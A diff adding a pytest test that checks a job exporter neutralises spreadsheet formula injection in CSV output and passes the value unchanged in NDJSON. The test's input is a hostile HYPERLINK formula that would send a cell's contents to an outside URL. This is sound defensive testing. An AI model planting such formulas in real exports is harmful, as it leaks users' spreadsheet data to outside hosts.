@@ -50,6 +50,14 @@ def test_every_format_tells_the_same_jobs_however_they_are_paged(count: int, pag
     assert all((row["created_at"], row["completed_at"]) == ("2026-11-29T09:30:00Z", "") for row in rows)
 
 
+def test_a_spreadsheet_calculates_no_topic_and_programs_get_it_as_it_is() -> None:
+    topic = '=HYPERLINK("https://example.org?" & A1)'
+    jobs = [msgspec.structs.replace(make(1), topic=topic)]
+    (row,) = csv.DictReader(io.StringIO(b"".join(write_jobs(jobs, "csv")).decode(), newline=""))
+    assert row["topic"] == f"'{topic}"
+    assert msgspec.json.decode(b"".join(write_jobs(jobs, "ndjson")), type=Job).topic == topic
+
+
 @pytest.mark.parametrize("form", ["csv", "json", "ndjson"])
 def test_a_hundred_thousand_jobs_take_the_memory_of_a_page(form: Format) -> None:
     def jobs() -> Iterator[Job]:
